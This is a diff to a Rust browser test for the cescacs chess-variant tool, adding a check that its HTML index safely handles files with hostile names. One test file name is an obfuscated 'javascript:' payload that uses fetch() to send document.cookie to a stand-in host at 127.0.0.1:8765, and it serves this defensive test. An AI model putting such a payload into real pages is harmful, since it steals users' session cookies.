@@ -9,7 +9,8 @@
 //! Needs `/usr/bin/chromium` and `tests/browser/node_modules` (`npm ci` there; `.ci/run` does
 //! both). Without them the test is reported ignored, except when `CI` is set: then it fails.
 //! With `CESCACS_BLESS_SCREENSHOT=1` the annotated page's screenshot is copied to
-//! `docs/html-viewer.png` (the README shows it).
+//! `docs/html-viewer.png` (the README shows it). A second trial opens the index of `html
+//! --split` over files with hostile names and clicks its links (`tests/browser/check-index.js`).
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
@@ -43,12 +44,77 @@ fn missing() -> Option<String> {
 
 fn main() {
     let args = Arguments::from_args();
-    let mut trial = Trial::test("corpus_pages_in_chromium", corpus_pages);
+    let mut trials = vec![
+        Trial::test("corpus_pages_in_chromium", corpus_pages),
+        Trial::test("an_index_of_hostile_file_names_in_chromium", hostile_index),
+    ];
     if let (Some(why), None) = (missing(), std::env::var_os("CI")) {
         eprintln!("html_browser: ignored: {why}");
-        trial = trial.with_ignored_flag(true);
+        trials = trials.into_iter().map(|t| t.with_ignored_flag(true)).collect();
     }
-    libtest_mimic::run(&args, vec![trial]).exit();
+    libtest_mimic::run(&args, trials).exit();
+}
+
+/// Runs `node SCRIPT MANIFEST` in `tests/browser`: its report, or the problems it found.
+fn node(script: &str, manifest: &Path) -> Result<String, Failed> {
+    let run = Command::new("node")
+        .arg(browser_dir().join(script))
+        .arg(manifest)
+        .current_dir(browser_dir())
+        .output()
+        .map_err(|e| e.to_string())?;
+    let report = String::from_utf8_lossy(&run.stdout).into_owned();
+    eprintln!("{report}{}", String::from_utf8_lossy(&run.stderr));
+    if !run.status.success() {
+        return Err(format!("the browser found problems:\n{report}").into());
+    }
+    Ok(report)
+}
+
+/// Issue 38: the index of `html --split` over files whose names would be a `javascript:` link,
+/// a fragment, a query or an escape (`tests/browser/check-index.js`): each of its links clicked
+/// leads to a page of the folder, and no request leaves for anything but the folder's files.
+fn hostile_index() -> Result<(), Failed> {
+    if let Some(why) = missing() {
+        return Err(format!("CI is set but the browser test cannot run: {why}").into());
+    }
+    let tmp = Path::new(env!("CARGO_TARGET_TMPDIR")).join("html-browser-names");
+    let _ = std::fs::remove_dir_all(&tmp);
+    let inputs = tmp.join("in");
+    std::fs::create_dir_all(&inputs).map_err(|e| e.to_string())?;
+    let names = [
+        "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765'+String.fromCharCode(47)+'x?'+document.cookie)<!--.ctl-pgn",
+        "a#b.ctl-pgn",
+        "100%41.ctl-pgn",
+        "what?.ctl-pgn",
+        "Moià i Martí.ctl-pgn",
+    ];
+    let game = "[Variant \"C'escacs\"]\n\n1. E7-E13 :\n*\n";
+    for name in names {
+        std::fs::write(inputs.join(name), format!("{game}\n{game}")).map_err(|e| e.to_string())?;
+    }
+    let out = tmp.join("out");
+    let run = Command::new(BIN)
+        .args(["html", "--split", "-o"])
+        .arg(&out)
+        .arg(&inputs)
+        .output()
+        .map_err(|e| e.to_string())?;
+    if !run.status.success() {
+        return Err(
+            format!("cescacs html --split: {}", String::from_utf8_lossy(&run.stderr)).into()
+        );
+    }
+    let dir = out.canonicalize().map_err(|e| e.to_string())?;
+    let manifest = serde_json::json!({
+        "index": dir.join("index.html"),
+        "dir": dir,
+        "links": names.len() * 2,
+        "scratch": tmp.canonicalize().map_err(|e| e.to_string())?,
+    });
+    let manifest_path = tmp.join("manifest.json");
+    std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
+    node("check-index.js", &manifest_path).map(drop)
 }
 
 /// The pieces of an SVG of `cescacs-diagram`: `HEX:LETTER`, sorted, space separated.
@@ -201,17 +267,7 @@ fn corpus_pages() -> Result<(), Failed> {
     });
     let manifest_path = tmp.join("manifest.json");
     std::fs::write(&manifest_path, manifest.to_string()).map_err(|e| e.to_string())?;
-    let run = Command::new("node")
-        .arg(browser_dir().join("check-pages.js"))
-        .arg(&manifest_path)
-        .current_dir(browser_dir())
-        .output()
-        .map_err(|e| e.to_string())?;
-    let report = String::from_utf8_lossy(&run.stdout);
-    eprintln!("{report}{}", String::from_utf8_lossy(&run.stderr));
-    if !run.status.success() {
-        return Err(format!("the browser found problems:\n{report}").into());
-    }
+    node("check-pages.js", &manifest_path)?;
     if std::env::var_os("CESCACS_BLESS_SCREENSHOT").is_some() {
         std::fs::copy(shots.join("annotated.png"), root().join("docs/html-viewer.png"))
             .map_err(|e| e.to_string())?;
